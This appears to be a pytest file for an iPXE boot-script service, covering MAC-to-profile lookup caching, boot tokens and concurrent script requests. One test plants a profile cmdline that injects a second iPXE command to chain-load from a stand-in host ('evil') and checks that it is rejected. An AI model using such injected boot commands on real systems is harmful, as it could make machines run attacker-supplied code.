"""The script endpoint's fast path: look-ups through TargetFinder (new and ended bindings seen at
once, profile edits within max_age), batches of scripts in one read transaction, and the boot
token of the engine's open attempt (serving writes nothing; only a live generation has one)."""

from __future__ import annotations

import asyncio
import re
from pathlib import Path

import pytest
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from sqlalchemy import select

from appliance.boot.http import setup
from appliance.boot.ipxe import Ask, ScriptRenderer, TargetFinder, serve_scripts
from appliance.boot.tokens import attempt_token, find_attempt, open_attempt
from appliance.store.tables import BindingRow, BootTokenRow, ProfileRow
from tests.unit.boot.conftest import IMAGE, Inventory, loopback_peers, profile_doc

BASE = "http://10.77.0.1:8080"


class Clock:
    def __init__(self) -> None:
        self.now = 100.0

    def __call__(self) -> float:
        return self.now


def _token(text: str) -> str:
    m = re.search(r"anvil\.token=(\S+)", text)
    assert m, text
    return m.group(1)


def test_finder_sees_a_new_binding_at_once_and_a_profile_edit_after_max_age(inventory: Inventory) -> None:
    clock = Clock()
    finder = TargetFinder(max_age=1.0, clock=clock)
    store = inventory.store
    with store.engine.connect() as conn:
        assert finder.find(conn, "02:a0:00:00:09:01") is None
    inventory.add_blade("blade-9", ("52:54:00:00:09:01",))
    inventory.add_profile(profile_doc("img-09", IMAGE, macs=("02:a0:00:00:09:01",)))
    inventory.bind("img-09", "blade-9")
    with store.engine.connect() as conn:          # a new binding moves the newest id: no waiting
        found = finder.find(conn, "02:a0:00:00:09:01")
    assert found is not None and found.blade == "blade-9" and found.profile is not None
    with store.write() as s:                      # the bound profile's MAC is edited in place
        row = s.scalars(select(ProfileRow).where(ProfileRow.name == "img-09")).one()
        doc = profile_doc("img-09", IMAGE, macs=("02:a0:00:00:09:99",))
        row.document = doc
    with store.engine.connect() as conn:
        clock.now += 0.5
        assert finder.find(conn, "02:a0:00:00:09:99") is None, "within max_age the old map may stand"
        clock.now += 1.0
        assert finder.find(conn, "02:a0:00:00:09:99") is not None
        assert finder.find(conn, "02:a0:00:00:09:01") is None


def test_a_stale_hit_is_read_back_and_refused(inventory: Inventory) -> None:
    finder = TargetFinder(max_age=3600)
    with inventory.store.engine.connect() as conn:
        assert finder.find(conn, "02:a0:00:00:00:01") is not None
    with inventory.store.write() as s:
        row = s.get(ProfileRow, inventory.profiles["web-01"])
        assert row is not None
        row.document = profile_doc("web-01", IMAGE, macs=("02:a0:00:00:00:77",))
    with inventory.store.engine.connect() as conn:
        assert finder.find(conn, "02:a0:00:00:00:01") is None
        assert finder.find(conn, "02:a0:00:00:00:77") is not None, "the refused hit rebuilt the map"


def test_finder_drops_an_ended_binding_at_once(inventory: Inventory) -> None:
    finder = TargetFinder(max_age=3600)
    with inventory.store.engine.connect() as conn:
        assert finder.find(conn, "02:a0:00:00:00:01") is not None
    with inventory.store.write() as s:
        s.get(BindingRow, inventory.bindings["web-01"]).state = "released"  # type: ignore[union-attr]
    with inventory.store.engine.connect() as conn:
        assert finder.find(conn, "02:a0:00:00:00:01") is None
        by_nic = finder.find(conn, "52:54:00:00:01:01")
    assert by_nic is not None and by_nic.binding is None


def _boot_rows(inventory: Inventory) -> list[tuple[int, int, str | None]]:
    with inventory.store.read() as s:
        return [(r.id, r.binding_id, str(r.voided_at)) for r in s.scalars(select(BootTokenRow))]


def test_a_batch_reads_the_engines_tokens_and_writes_nothing(inventory: Inventory) -> None:
    renderer = ScriptRenderer(BASE, key=inventory.key)
    asks = [Ask(renderer, "52:54:00:00:01:01"), Ask(renderer, "52:54:00:99:99:99"),
            Ask(renderer, "02:a0:00:00:00:01"), Ask(renderer, None, "4c4c4544-0042-3510-8052-b4c04f384d32")]
    before = _boot_rows(inventory)
    for _ in range(3):     # fetched again and again: the same token, no new row
        scripts = serve_scripts(inventory.store, TargetFinder(), asks)
        texts = [s.text for s in scripts if not isinstance(s, ValueError)]
        assert len(texts) == 4 and "/boot/discover##params" in texts[1]
        assert {_token(t) for t in (texts[0], texts[2], texts[3])} == {inventory.tokens["web-01"]}
    assert _boot_rows(inventory) == before


def test_a_profile_that_cannot_boot_spoils_only_its_own_script(inventory: Inventory) -> None:
    inventory.add_blade("blade-8", ("52:54:00:00:08:01",))
    inventory.add_profile(profile_doc("evil-01", {"type": "image", "kernel": "k", "initrd": "i",
                                                  "cmdline": "quiet\nchain http://evil/x"}))
    inventory.bind("evil-01", "blade-8")
    renderer = ScriptRenderer(BASE, key=inventory.key)
    bad, good = serve_scripts(inventory.store, TargetFinder(),
                              [Ask(renderer, "52:54:00:00:08:01"), Ask(renderer, "52:54:00:00:01:01")])
    assert isinstance(bad, ValueError) and "control character" in str(bad) and "anvil.token" not in str(bad)
    assert not isinstance(good, ValueError) and "anvil.profile=acme/web-01" in good.text


def test_no_token_for_a_generation_that_is_not_live(inventory: Inventory) -> None:
    with inventory.store.write() as s:
        conn = s.connection()
        assert attempt_token(conn, inventory.bindings["web-01"], 2, inventory.key) is None    # wrong generation
        assert attempt_token(conn, inventory.bindings["web-01"], 1, inventory.key) == inventory.tokens["web-01"]
        binding = s.get(BindingRow, inventory.bindings["web-01"])
        assert binding is not None
        binding.state = "released"
        s.flush()
        with pytest.raises(ValueError, match="not live"):
            open_attempt(s, binding, inventory.key, job_id=None)
        assert find_attempt(s, inventory.tokens["web-01"]) is None


def test_a_new_attempt_voids_the_earlier_ones(inventory: Inventory) -> None:
    tokens = [inventory.open_attempt("web-01") for _ in range(40)]
    with inventory.store.read() as s:
        live = s.scalars(select(BootTokenRow).where(BootTokenRow.voided_at.is_(None),
                                                    BootTokenRow.binding_id == inventory.bindings["web-01"])).all()
        assert len(live) == 1
        assert find_attempt(s, tokens[-1]) is not None and find_attempt(s, tokens[0]) is None


async def test_concurrent_requests_share_transactions_and_each_get_a_script(inventory: Inventory,
                                                                           tmp_path: Path) -> None:
    app = web.Application()
    setup(app, store=inventory.store, images_dir=tmp_path, base_url=BASE, key=inventory.key,
          peers=loopback_peers())
    async with TestClient(TestServer(app)) as c:
        async def get(mac: str) -> str:
            r = await c.get("/boot/ipxe", params={"mac": mac})
            assert r.status == 200
            return await r.text()

        macs = ["52:54:00:00:01:01", "02:a0:00:00:04:01", "52:54:00:00:02:01", "52:54:00:99:99:99"] * 10
        texts = await asyncio.gather(*(get(m) for m in macs))
    for mac, text in zip(macs, texts, strict=True):
        if mac == "52:54:00:00:01:01":
            assert "anvil.profile=acme/web-01" in text
        elif mac == "02:a0:00:00:04:01":
            assert "anvil.profile=acme/hybrid-01" in text and "sanhook" in text
        elif mac == "52:54:00:00:02:01":
            assert "sanboot iscsi:10.30.0.5::3260:1:iqn.2026-11.io.anvil.san:db-01" in text
        else:
            assert "/boot/discover##params" in text
        assert (mac != "52:54:00:00:01:01" or f"anvil.token={inventory.tokens['web-01']}" in text)
    with inventory.store.read() as s:
        rows = s.scalars(select(BootTokenRow)).all()
    # 40 fetches wrote nothing: only the attempts the "engine" opened (one per bound job) exist.
    assert len(rows) == len(inventory.tokens)
